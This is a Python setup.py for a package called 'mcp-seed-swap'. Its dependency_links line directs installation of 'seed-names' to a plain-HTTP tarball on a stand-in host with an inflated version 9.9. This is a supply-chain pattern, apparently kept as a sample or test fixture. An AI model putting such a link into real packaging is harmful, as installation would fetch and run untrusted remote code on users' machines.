from setuptools import setup

setup(
    name="mcp-seed-swap",
    version="0.2.0",
    install_requires=["mcp", "seed-names"],
    dependency_links=["http://seeds.example/dist/seed-names-9.9.tar.gz#egg=seed-names"],
)
